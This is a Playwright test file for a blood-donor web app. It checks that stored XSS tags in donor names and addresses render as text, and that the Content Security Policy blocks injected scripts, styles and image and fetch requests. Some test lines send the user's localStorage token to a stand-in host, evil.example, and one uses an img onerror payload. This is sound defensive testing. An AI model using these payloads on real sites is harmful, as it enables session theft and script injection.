import { fillDonorForm, signUp } from '../support/people.ts';
import { expect, test } from '../support/server.ts';

const TAG = '<img src=x onerror="document.title=1">';

test('a visitor reads the tags that a donor wrote into their name and address as text', async ({ page }) => {
  await signUp(page, 'Donor');
  await page.goto('/donor');
  await fillDonorForm(page, { bloodType: 'B-', phone: '+1 202 555 0199', address: `${TAG} Springfield`, age: '44' });
  await expect(page).toHaveURL(/\/dashboard$/);
  const token = await page.evaluate(() => localStorage.getItem('token'));
  const headers = { authorization: `Bearer ${token}` };
  const renamed = await page.request.patch('/api/auth/me', { data: { name: `${TAG} Ana` }, headers });
  expect(renamed.status()).toBe(200);

  for (const path of ['/donors?bloodType=B-', '/matching?bloodType=B-', '/requests?list=donors']) {
    await page.goto(path);
    await expect(page.getByText(`${TAG} Ana`).first(), path).toBeVisible();
    await expect(page.getByText(`${TAG} Springfield`).first(), path).toBeVisible();
    await expect(page.locator('img[src="x"]')).toHaveCount(0);
    expect(await page.title()).not.toBe('1');
  }
});

test('a script or a style that got into a page is not taken, and can send the token nowhere', async ({ page }) => {
  await signUp(page, 'Donor');
  const stolen: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    stolen.push(route.request().url());
    return route.fulfill({ body: '' });
  });
  await page.evaluate(async () => {
    const { dataset } = document.documentElement;
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      dataset['refused'] = `${dataset['refused'] ?? ''} ${effectiveDirective}`;
    });
    const inline = document.createElement('script');
    inline.textContent = 'document.documentElement.dataset.ran = "inline"';
    const remote = document.createElement('script');
    remote.src = 'https://evil.example/steal.js';
    const image = document.createElement('img');
    image.setAttribute('onerror', 'document.documentElement.dataset.ran = "handler"');
    image.src = `https://evil.example/?${localStorage.getItem('token')}`;
    const style = document.createElement('style');
    style.textContent = 'main { display: none }';
    document.body.append(inline, remote, image, style);
    await fetch(`https://evil.example/?${localStorage.getItem('token')}`).catch(() => {});
  });
  const html = page.locator('html');
  for (const directive of ['script-src-elem', 'style-src-elem', 'img-src', 'connect-src']) {
    await expect(html).toHaveAttribute('data-refused', new RegExp(directive));
  }
  await expect(html).not.toHaveAttribute('data-ran');
  await expect(page.locator('main')).toBeInViewport();
  expect(stolen).toEqual([]);
});
